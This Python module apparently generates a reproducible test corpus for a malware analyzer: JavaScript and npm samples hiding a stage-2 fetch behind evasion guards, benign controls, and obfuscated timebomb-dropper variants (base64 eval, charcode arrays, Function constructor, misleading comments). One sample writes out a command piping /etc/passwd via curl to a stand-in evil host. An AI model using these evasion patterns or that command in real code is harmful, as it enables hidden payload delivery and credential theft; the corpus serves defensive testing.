"""Deterministic corpus generation.

Three families come out of here, all built from the same seeded RNG so a
corpus is byte-reproducible:

* one evasive sample per evasion category, each hiding an injection call
  behind a guard that carries that category's vocabulary;
* benign controls that call the same injection APIs unconditionally or
  against the sample's own origin;
* obfuscated variants of a timebomb dropper, one per transform, with a
  per-variant note saying whether the analysis is expected to catch it.
"""
from __future__ import annotations

import json
import pathlib
import random
from typing import Callable, Optional

from ..taxonomy import CATEGORIES
from .samples import EntryFile, Sample

STAGE2_URL = "https://cdn.delivery.example/stage2.js"
STAGE2_BODY = "var stagedMarker = 'second-stage';\n"
GATE_URL = "https://api.gatecheck.example/policy"

# delay floors well above the timebomb threshold; jittered per corpus
BASE_DELAY_MS = 90000000


def _stage2_resources(extra: Optional[dict] = None) -> dict:
    resources = {STAGE2_URL: {"kind": "script", "body": STAGE2_BODY}}
    if extra:
        resources.update(extra)
    return {"resources": resources}


def _browser_inject() -> str:
    return "fetch('%s');" % STAGE2_URL


def _npm_inject() -> str:
    return "urlopen('%s');" % STAGE2_URL


# Each template guards the injection with the category's own vocabulary.
# Guards are written so live evaluation is safe whatever the host returns;
# most are falsy on the synthetic host, which is the whole point: only a
# forced run ever reaches the injection.
_BROWSER_GUARDS: dict[str, tuple[str, str]] = {
    "email-login": (
        "var user = { name: 'anon' };",
        "user.email && user.isLoggedIn"),
    "social-media-signup": (
        "var auth = { provider: 'none' };",
        "auth.facebook || auth.google"),
    "crypto-wallet-login": (
        "",
        "window.metamask && window.metamask.wallet"),
    "localstorage-timebomb": (
        "",
        "!localStorage.getItem('installStamp')"),
    "cookie-timebomb": (
        "",
        "document.cookie.indexOf('optout=1') === -1"),
    "country-check": (
        "var geo = { city: '' };",
        "geo.country === 'US' || geo.timezone === 'America/New_York'"),
    "window-size": (
        "",
        "window.innerWidth < 100 || window.innerHeight < 100"),
    "browser-type": (
        "",
        "navigator.userAgent.indexOf('Firefox') !== -1"),
    "os-check": (
        "",
        "navigator.platform === 'Win32'"),
    "open-devtools": (
        "var devtoolsOpen = false;",
        "devtoolsOpen"),
    "visitor-id": (
        "var profile = { visitorId: '' };",
        "profile.visitorId"),
    "recaptcha": (
        "var page = { title: 'home' };",
        "page.recaptcha && page.recaptcha.solved"),
    "microphone": (
        "",
        "navigator.getUserMedia"),
    "phone-type": (
        "var ua = navigator.userAgent;",
        "ua.indexOf('Android') !== -1 || ua.indexOf('iPhone') !== -1"),
    "key-presses": (
        "var keyupSeen = false;\n"
        "document.addEventListener('keyup', function () { keyupSeen = true; });",
        "keyupSeen"),
    "multiple-keys": (
        "var keyCount = 0;\n"
        "document.addEventListener('keydown', function () { keyCount = keyCount + 1; });",
        "keyCount > 3"),
    "mouse-clicks": (
        "var clickCount = 0;\n"
        "document.addEventListener('mousedown', function () { clickCount = clickCount + 1; });",
        "clickCount >= 2"),
    "notification-settings": (
        "",
        "window.Notification && window.Notification.permission === 'granted'"),
    "blocked-websites": (
        "var blockedSites = ['https://analytics.example', 'https://audit.example'];",
        "blockedSites.indexOf(location.href) === -1"),
    "dom-check": (
        "",
        "!document.getElementById('consent-banner')"),
    "random-value": (
        "",
        "Math.random() < 0.05"),
    "generic-bot": (
        "",
        "navigator.webdriver || window.phantom"),
}

_NPM_GUARDS: dict[str, tuple[str, str]] = {
    "ip-port": (
        "var ip_port = process.env.TARGET_ADDR || '';",
        "ip_port"),
    "runs-in-browser": (
        "",
        "typeof window === 'undefined'"),
    "wx-permission": (
        "var mode = { w_ok: false, x_ok: false };",
        "mode.w_ok || mode.x_ok"),
    "local-config": (
        "var fs = require('fs');",
        "fs.existsSync('.npmrc') || fs.existsSync('.env')"),
}


# Auxiliary gated probes pad every evasive sample to realistic condition
# counts; the names stay clear of all category vocabularies so they never
# disturb the classification.
_PROBE_NAMES = ("checkA", "checkB", "checkC", "checkD")


def _probe_block() -> str:
    lines = []
    for name in _PROBE_NAMES:
        lines.append("var %s = false;" % name)
        lines.append("if (%s) {" % name)
        lines.append("  eval('1;');")
        lines.append("}")
    return "\n".join(lines)


def _simple_guard_source(setup: str, guard: str, inject: str) -> str:
    lines = []
    if setup:
        lines.append(setup)
    lines.append("if (%s) {" % guard)
    lines.append("  %s" % inject)
    lines.append("}")
    lines.append(_probe_block())
    return "\n".join(lines) + "\n"


def _timer_guard_source(guard: str, inject: str, delay_ms: int) -> str:
    return (
        "setTimeout(function () {\n"
        "  if (%s) {\n"
        "    %s\n"
        "  }\n"
        "}, %d);\n" % (guard, inject, delay_ms)
    ) + _probe_block() + "\n"


def category_sample(name: str, rng: random.Random) -> Sample:
    """One evasive sample whose guard speaks the named category's terms."""
    delay = BASE_DELAY_MS + rng.randrange(0, 1000) * 1000
    if name == "server-side":
        # the gate is data fetched at runtime, not vocabulary in the guard
        source = (
            "fetch('%s').then(function (resp) {\n"
            "  if (resp.ok && resp.status === 200) {\n"
            "    %s\n"
            "  }\n"
            "});\n" % (GATE_URL, _browser_inject())
        ) + _probe_block() + "\n"
        resources = _stage2_resources({GATE_URL: {"kind": "text", "body": "on"}})
        kind = "script"
    elif name == "password-path":
        probe = "test -f /etc/passwd ; echo $?"
        exfil = "cat /etc/passwd | curl -F data=@- https://collect.evil.example"
        source = (
            "var exec = require('child_process').exec;\n"
            "exec('%s', function (err, stdout, stderr) {\n"
            "  if (!err && stdout == 0) {\n"
            "    exec('%s');\n"
            "  }\n"
            "});\n" % (probe, exfil)
        )
        resources = {
            "resources": {},
            "commands": {
                probe: {"stdout": "0", "stderr": "", "code": 0},
                exfil: {"stdout": "", "stderr": "", "code": 0},
            },
        }
        kind = "npm"
    elif name in ("localstorage-timebomb", "cookie-timebomb"):
        _setup, guard = _BROWSER_GUARDS[name]
        source = _timer_guard_source(guard, _browser_inject(), delay)
        resources = _stage2_resources()
        kind = "script"
    elif name in _BROWSER_GUARDS:
        setup, guard = _BROWSER_GUARDS[name]
        source = _simple_guard_source(setup, guard, _browser_inject())
        resources = _stage2_resources()
        kind = "script"
    elif name in _NPM_GUARDS:
        setup, guard = _NPM_GUARDS[name]
        source = _simple_guard_source(setup, guard, _npm_inject())
        resources = _stage2_resources()
        kind = "npm"
    else:
        raise ValueError("no template for category %r" % name)

    category = next(c for c in CATEGORIES if c.name == name)
    sample_id = "cat-%02d-%s" % (category.number, name)
    entry_name = "index.js" if kind == "npm" else sample_id + ".js"
    return Sample(
        sample_id=sample_id,
        kind=kind,
        entries=[EntryFile(entry_name, source)],
        resources=resources,
        metadata={"category": name},
        label="malicious",
    )


def _benign_specs(rng: random.Random) -> list[tuple[str, str, str, dict]]:
    filler = rng.randrange(2, 5)
    counter = "\n".join("var tick%d = %d * 2;" % (i, i) for i in range(filler))
    return [
        ("benign-local-loader", "script",
         # loads a script from its own origin, no conditions involved
         "%s\nfetch('/assets/helper.js');\n" % counter,
         {"resources": {"/assets/helper.js": {"kind": "script",
                                              "body": "var helperReady = true;\n"}}}),
        ("benign-unconditional-cdn", "script",
         # third-party load without any gating; baseline sees everything
         "var banner = 'ready';\nfetch('%s');\n" % STAGE2_URL,
         _stage2_resources()),
        ("benign-plain-conditions", "script",
         "var total = 0;\n"
         "for (var i = 0; i < 10; i = i + 1) {\n"
         "  if (i % 2 === 0) {\n"
         "    total = total + i;\n"
         "  }\n"
         "}\n"
         "console.log(total);\n",
         {"resources": {}}),
        ("benign-npm-fetcher", "npm",
         "var manifestText = '{\"version\": 1}';\n"
         "var parsed = JSON.parse(manifestText);\n"
         "urlopen('%s');\n" % STAGE2_URL,
         _stage2_resources()),
        ("benign-npm-util", "npm",
         "function pad(s, n) {\n"
         "  var out = String(s);\n"
         "  while (out.length < n) {\n"
         "    out = '0' + out;\n"
         "  }\n"
         "  return out;\n"
         "}\n"
         "console.log(pad(7, 3));\n",
         {"resources": {}}),
    ]


def benign_samples(rng: random.Random) -> list[Sample]:
    out = []
    for sample_id, kind, source, resources in _benign_specs(rng):
        entry_name = "index.js" if kind == "npm" else sample_id + ".js"
        out.append(Sample(
            sample_id=sample_id,
            kind=kind,
            entries=[EntryFile(entry_name, source)],
            resources=resources,
            metadata={},
            label="benign",
        ))
    return out


# -- timebomb base and its obfuscated variants -------------------------------

def _timebomb_body(delay_ms: int) -> str:
    return (
        "var delivered = false;\n"
        "setTimeout(function () {\n"
        "  if (!delivered) {\n"
        "    %s\n"
        "  }\n"
        "}, %d);\n" % (_npm_inject(), delay_ms)
    )


def _charcodes(text: str) -> str:
    return ", ".join(str(ord(ch)) for ch in text)


def _tb_binary_arrays(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    source = (
        "var delivered = false;\n"
        "var enc = [%s];\n"
        "var target = '';\n"
        "for (var i = 0; i < enc.length; i = i + 1) {\n"
        "  target = target + String.fromCharCode(enc[i]);\n"
        "}\n"
        "setTimeout(function () {\n"
        "  if (!delivered) {\n"
        "    urlopen(target);\n"
        "  }\n"
        "}, %d);\n" % (_charcodes(STAGE2_URL), delay_ms)
    )
    return {"index.js": source}, _stage2_resources(), True


def _tb_dead_code(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    source = (
        "var delivered = false;\n"
        "function auditTrail(x) {\n"
        "  return x * 2;\n"
        "}\n"
        "if (false) {\n"
        "  auditTrail(99);\n"
        "}\n"
        "setTimeout(function () {\n"
        "  if (!delivered) {\n"
        "    %s\n"
        "  } else {\n"
        "    auditTrail(1);\n"
        "  }\n"
        "}, %d);\n"
        "var cleanup = auditTrail(3);\n" % (_npm_inject(), delay_ms)
    )
    return {"index.js": source}, _stage2_resources(), True


def _tb_multi_file_split(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    index = (
        "var buildInfo = { name: 'cache-warmer', ok: true };\n"
        "console.log(buildInfo.name);\n"
    )
    setup = _timebomb_body(delay_ms)
    return {"index.js": index, "setup.js": setup}, _stage2_resources(), True


def _tb_try_catch(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    source = (
        "var delivered = false;\n"
        "try {\n"
        "  setTimeout(function () {\n"
        "    if (!delivered) {\n"
        "      %s\n"
        "    }\n"
        "  }, %d);\n"
        "} catch (probeError) {\n"
        "  delivered = true;\n"
        "}\n" % (_npm_inject(), delay_ms)
    )
    return {"index.js": source}, _stage2_resources(), True


def _tb_dependency_tree(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    index = (
        "var agent = require('./tracker/agent.js');\n"
        "console.log('boot');\n"
    )
    resources = _stage2_resources({
        "/tracker/agent.js": {"kind": "script", "body": _timebomb_body(delay_ms)},
    })
    return {"index.js": index}, resources, True


def _tb_multi_dependency(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    env_mod = "exports.host = 'https://cdn.delivery.example/';\n"
    loader = (
        "var env = require('./lib/env.js');\n"
        "var delivered = false;\n"
        "exports.deliver = function () {\n"
        "  setTimeout(function () {\n"
        "    if (!delivered) {\n"
        "      urlopen(env.host + 'stage2.js');\n"
        "    }\n"
        "  }, %d);\n"
        "};\n" % delay_ms
    )
    index = (
        "var loader = require('./lib/loader.js');\n"
        "loader.deliver();\n"
    )
    resources = _stage2_resources({
        "/lib/env.js": {"kind": "script", "body": env_mod},
        "/lib/loader.js": {"kind": "script", "body": loader},
    })
    return {"index.js": index}, resources, True


def _tb_encoding(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    import base64
    payload = (
        "var delivered = false;\n"
        "setTimeout(function () {\n"
        "  if (!delivered) {\n"
        "    var fire = global['url' + 'open'];\n"
        "    fire('%s');\n"
        "  }\n"
        "}, %d);\n" % (STAGE2_URL, delay_ms)
    )
    blob = base64.b64encode(payload.encode("ascii")).decode("ascii")
    source = (
        "var run = global['ev' + 'al'];\n"
        "var blob = '%s';\n"
        "run(atob(blob));\n" % blob
    )
    return {"index.js": source}, _stage2_resources(), False


def _tb_steganography(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    source = (
        "var delivered = false;\n"
        "var brandA = 'https://cdn.';\n"
        "var brandB = 'delivery.';\n"
        "var brandC = 'example/';\n"
        "var asset = 'stage2.js';\n"
        "setTimeout(function () {\n"
        "  if (!delivered) {\n"
        "    urlopen(brandA + brandB + brandC + asset);\n"
        "  }\n"
        "}, %d);\n" % delay_ms
    )
    return {"index.js": source}, _stage2_resources(), True


def _tb_dynamic_code(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    source = (
        "var FN = global['Fun' + 'ction'];\n"
        "var body = \"var fire = global['url' + 'open']; fire(TARGET);\";\n"
        "body = body.replace('TARGET', \"'%s'\");\n"
        "var dropper = new FN(body);\n"
        "setTimeout(dropper, %d);\n" % (STAGE2_URL, delay_ms)
    )
    return {"index.js": source}, _stage2_resources(), False


def _tb_visual_deception(delay_ms: int) -> tuple[dict[str, str], dict, bool]:
    source = (
        "// telemetry bootstrap: batches page timings for the dashboard\n"
        "var telemetryReady = false;\n"
        "setTimeout(function initTelemetry() {\n"
        "  if (!telemetryReady) {\n"
        "    %s\n"
        "  }\n"
        "}, %d);\n" % (_npm_inject(), delay_ms)
    )
    return {"index.js": source}, _stage2_resources(), True


TRANSFORMS: dict[str, Callable[[int], tuple[dict[str, str], dict, bool]]] = {
    "binary-arrays": _tb_binary_arrays,
    "dead-code": _tb_dead_code,
    "multi-file-split": _tb_multi_file_split,
    "try-catch-wrapping": _tb_try_catch,
    "dependency-tree-hiding": _tb_dependency_tree,
    "multi-dependency-split": _tb_multi_dependency,
    "encoding": _tb_encoding,
    "steganography-string-assembly": _tb_steganography,
    "dynamic-code-modification": _tb_dynamic_code,
    "visual-deception": _tb_visual_deception,
}


def timebomb_base(rng: random.Random) -> Sample:
    delay = BASE_DELAY_MS + rng.randrange(0, 1000) * 1000
    return Sample(
        sample_id="tb-base",
        kind="npm",
        entries=[EntryFile("index.js", _timebomb_body(delay))],
        resources=_stage2_resources(),
        metadata={"transform": "none", "expected_detected": True},
        label="malicious",
    )


def transform_sample(name: str, rng: random.Random) -> Sample:
    try:
        builder = TRANSFORMS[name]
    except KeyError:
        raise ValueError("unknown transform %r" % name)
    delay = BASE_DELAY_MS + rng.randrange(0, 1000) * 1000
    files, resources, expected = builder(delay)
    entries = [EntryFile(n, files[n]) for n in sorted(files)]
    return Sample(
        sample_id="tb-" + name,
        kind="npm",
        entries=entries,
        resources=resources,
        metadata={"transform": name, "expected_detected": expected},
        label="malicious",
    )


def threshold_pair(rng: random.Random, threshold: int = 5) -> tuple[Sample, Sample]:
    """Two near-twins straddling the flag threshold.

    Both carry one unconditional third-party injection. One holds
    threshold-1 guarded probes, the other exactly threshold, so only the
    second may be flagged.
    """
    def build(count: int, suffix: str) -> Sample:
        lines = []
        for i in range(count):
            lines.append("var probe%d = false;" % i)
            lines.append("if (probe%d) {" % i)
            lines.append("  eval('1;');")
            lines.append("}")
        lines.append("fetch('%s');" % STAGE2_URL)
        sample_id = "threshold-%s" % suffix
        return Sample(
            sample_id=sample_id,
            kind="script",
            entries=[EntryFile(sample_id + ".js", "\n".join(lines) + "\n")],
            resources=_stage2_resources(),
            metadata={"probes": count},
            label="malicious" if count >= threshold else "benign",
        )

    return build(threshold - 1, "below"), build(threshold, "at")


def generate_corpus(seed: int,
                    categories: Optional[list[str]] = None,
                    include_benign: bool = True,
                    include_transforms: bool = True) -> list[Sample]:
    rng = random.Random(seed)
    wanted = categories if categories is not None else [c.name for c in CATEGORIES]
    samples = [category_sample(name, rng) for name in wanted]
    if include_benign:
        samples.extend(benign_samples(rng))
    if include_transforms:
        samples.append(timebomb_base(rng))
        samples.extend(transform_sample(name, rng) for name in TRANSFORMS)
    return samples


# -- writing a corpus to disk so `analyze` can re-ingest it ------------------

def write_corpus(samples: list[Sample], out_dir: str) -> list[str]:
    out = pathlib.Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    written: list[str] = []
    for sample in samples:
        meta = dict(sample.metadata)
        if sample.label is not None:
            meta["label"] = sample.label
        if sample.kind == "script":
            if len(sample.entries) != 1:
                raise ValueError("script sample %s must have one entry" % sample.sample_id)
            entry = sample.entries[0]
            base = out / (sample.sample_id + ".js")
            base.write_text(entry.text, encoding="utf-8")
            if sample.resources:
                (out / (sample.sample_id + ".resources.json")).write_text(
                    json.dumps(sample.resources, indent=2, sort_keys=True) + "\n",
                    encoding="utf-8")
            (out / (sample.sample_id + ".meta.json")).write_text(
                json.dumps(meta, indent=2, sort_keys=True) + "\n", encoding="utf-8")
            written.append(str(base))
        elif sample.kind == "npm":
            pkg_dir = out / sample.sample_id
            pkg_dir.mkdir(parents=True, exist_ok=True)
            scripts = {}
            for n, entry in enumerate(sample.entries):
                (pkg_dir / entry.path).parent.mkdir(parents=True, exist_ok=True)
                (pkg_dir / entry.path).write_text(entry.text, encoding="utf-8")
                script_name = "start" if entry.path == "index.js" else "step%d" % n
                scripts[script_name] = "node %s" % entry.path
            for cmd_index, command in enumerate(sample.commands):
                scripts["hook%d" % cmd_index] = command
            package = {"name": sample.sample_id, "version": "1.0.0", "scripts": scripts}
            (pkg_dir / "package.json").write_text(
                json.dumps(package, indent=2, sort_keys=True) + "\n", encoding="utf-8")
            if sample.resources:
                (pkg_dir / "resources.json").write_text(
                    json.dumps(sample.resources, indent=2, sort_keys=True) + "\n",
                    encoding="utf-8")
            (pkg_dir / "meta.json").write_text(
                json.dumps(meta, indent=2, sort_keys=True) + "\n", encoding="utf-8")
            written.append(str(pkg_dir))
        else:
            raise ValueError("cannot write %s samples" % sample.kind)
    return written
